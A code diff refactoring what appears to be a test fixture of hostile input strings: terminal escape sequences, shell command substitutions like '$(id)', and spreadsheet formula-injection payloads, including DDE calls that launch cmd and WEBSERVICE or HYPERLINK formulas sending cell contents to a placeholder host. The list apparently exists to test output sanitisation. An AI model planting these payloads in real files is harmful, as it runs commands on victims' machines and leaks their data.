@@ -32,7 +32,7 @@ TERMINAL = (
     f"{ESC}#8",
     f"{ESC}(0lqqk{ESC}(B",
     f"{CSI}31mred",
-    f"\x9d0;a title\x9c",
+    "\x9d0;a title\x9c",
     "\x90q\x9c",
     "\x85next line",
     "nine killed\rnone hurt  ",
@@ -45,19 +45,18 @@ TERMINAL = (
     "\\[31m and \\x1b[31m and \\u001b[31m",
     "{0} {name!r} {__class__} %s %(x)s ${HOME} `id` $(id)",
 )
-FORMULAS = tuple(
-    chain.from_iterable(
+FORMULAS = (
+    *chain.from_iterable(
         (f"{start}1+1", f" {start}1+1", f"\u00a0{start}1+1", f"\u200b{start}1+1", f'"{start}1+1', f"x;{start}1+1", f"x\t{start}1+1",
          f"x\n{start}1+1", f'";{start}1+1;"', f"\t{start}1+1", f"\r{start}1+1", f"\r\n{start}1+1", f"\x00{start}1+1", f"'{start}1+1")
         for start in "=+-@＝＋－＠"
-    )
-) + (
+    ),
     "=cmd|'/C calc'!A0",
     "@SUM(1+1)*cmd|'/C calc'!A0",
     f'=HYPERLINK("https://{MINE}?"&A1;"go")',
     f'=WEBSERVICE("https://{MINE}?"&A1)',
     f'=IMPORTXML("https://{MINE}";"//a")',
-    "=DDE(\"cmd\";\"/C calc\";\"x\")",
+    '=DDE("cmd";"/C calc";"x")',
     "%0A=1+1",
 )  # fmt: skip
 MARKDOWN = (
